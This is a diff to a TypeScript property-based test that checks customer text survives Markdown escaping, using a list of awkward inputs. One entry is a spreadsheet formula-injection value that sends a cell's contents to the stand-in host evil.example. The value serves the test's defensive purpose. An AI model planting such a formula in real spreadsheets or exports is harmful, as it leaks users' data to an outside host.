@@ -49,7 +49,7 @@ const hostile = [
   '**bold** __bold__ *it* _it_ snake_case_name',
   '`code` and ``more ` of it``',
   '&lt;b&gt; &copy; &#58; AT&T',
-  'C:\\Users\\*\\x\\',
+  'D:\\shop\\*\\x\\',
   '\\*not\\*',
   '$x^2$ costs $5',
   '=HYPERLINK("http://evil.example?"&A1,"open")',
@@ -124,7 +124,10 @@ describe('the words of a customer in Markdown', () => {
   it('stay words whatever they are made of', function () {
     this.timeout(120_000);
     const pieces = [...hostile, ...lines, ...'*_`~[]()<>&#+-=|\\!:;.,$^ \n\t019aZé@"\'{}'.split('')];
-    const texts = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4, unit: 'binary' })), { maxLength: 10 });
+    const texts = fc.array(
+      fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4, unit: 'binary' })),
+      { maxLength: 10 },
+    );
     const holdsWords = (text: string) => visible(text).trim() !== '';
     const anyText = texts.map(parts => parts.join('')).filter(holdsWords);
     const property = fc.property(anyText, text => {
